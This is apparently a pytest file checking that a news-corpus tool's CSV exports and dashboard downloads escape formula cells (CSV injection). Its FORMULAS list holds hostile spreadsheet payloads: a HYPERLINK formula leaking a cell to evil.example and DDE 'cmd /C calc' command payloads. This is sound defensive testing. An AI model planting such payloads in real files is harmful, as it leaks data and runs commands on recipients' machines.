"""CSV injection (issue 13, item 7): titles and outlets that a spreadsheet would run as formulas,
exported by ``python -m corpus export`` (subprocess) and downloaded from the dashboard's pages
(headless Chromium). No cell of any CSV may start a formula; the text is kept behind an apostrophe."""
from __future__ import annotations

import csv
import io
import os
import subprocess
import sys

import pytest

from hostile_corpus import VALID
from hosted_support import open_page
from reliability_support import Dashboard

from corpus.extract import extract_document
from corpus.models import RawDocument
from devtools.dashboard import ROOT

FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"اضغط هنا")', "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", '@SUM(1+1)*cmd|"/C calc"!A0', "\t=1+1", "\r=1+1",
            "  =1+1"]
BODY = ("استقبل الرئيس الروسي فلاديمير بوتين الرئيس الأذربيجاني إلهام علييف في موسكو يوم 12 مارس "
        "2024 وبحثا التعاون في الطاقة.\nوقال بوتين إن التبادل التجاري بلغ 4 مليارات دولار في عام 2023.\n")


def _fill(url: str) -> None:
    from corpus.store import Store
    store = Store(url)
    try:
        for i, formula in enumerate(FORMULAS):
            text = f"{formula}\n{BODY}{VALID[i]}"
            # The file name too: events list their articles by source name.
            doc = RawDocument(source=f"{formula}-{i}.txt", text=text, fmt="txt", hints={})
            ex = extract_document(text, doc.source, {})
            ex.title, ex.outlet = formula, formula
            store.add_article(doc, ex, who="test")
        store.rebuild_events()
    finally:
        store.close()


def _cells(data: bytes) -> list[str]:
    text = data.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def _formula_cells(cells: list[str]) -> list[str]:
    return [c for c in cells if c.lstrip(" \u00a0").startswith(("=", "+", "-", "@", "\t", "\r"))]


@pytest.fixture(scope="module")
def formula_db(tmp_path_factory) -> str:
    url = f"sqlite:///{tmp_path_factory.mktemp('formulas') / 'formulas.sqlite'}"
    _fill(url)
    return url


@pytest.mark.parametrize("what", ["articles", "events", "figures"])
def test_cli_export_neutralises_formulas(formula_db, tmp_path, what):
    out = tmp_path / f"{what}.csv"
    proc = subprocess.run([sys.executable, "-m", "corpus", "export", "--format", "csv", "--what", what,
                           "--out", str(out), "--db", formula_db], cwd=ROOT, capture_output=True,
                          timeout=120, env={**os.environ, "PYTHONPATH": str(ROOT)})
    assert proc.returncode == 0, proc.stderr.decode()[-2000:]
    cells = _cells(out.read_bytes())
    assert _formula_cells(cells) == []
    if what == "articles":
        for formula in FORMULAS:
            assert "'" + formula in cells, formula


@pytest.fixture(scope="module")
def formula_dashboard(formula_db, tmp_path_factory):
    app = Dashboard(formula_db, tmp_path_factory.mktemp("formula_app") / "server.log")
    yield app
    app.stop()


@pytest.mark.browser
@pytest.mark.slow
@pytest.mark.parametrize("path, expect_titles", [("articles", True), ("timeline", False),
                                                 ("figures", False)])
def test_page_downloads_neutralise_formulas(browser, formula_dashboard, path, expect_titles):
    context, page = open_page(browser, formula_dashboard.base, path)
    buttons = page.locator("[data-testid='stDownloadButton'] button", has_text="CSV")
    assert buttons.count() >= 1
    with page.expect_download(timeout=60_000) as info:
        buttons.first.click()
    data = open(info.value.path(), "rb").read()
    context.close()
    cells = _cells(data)
    assert len(cells) > 1
    assert _formula_cells(cells) == []
    if expect_titles:
        assert "'" + FORMULAS[0] in cells
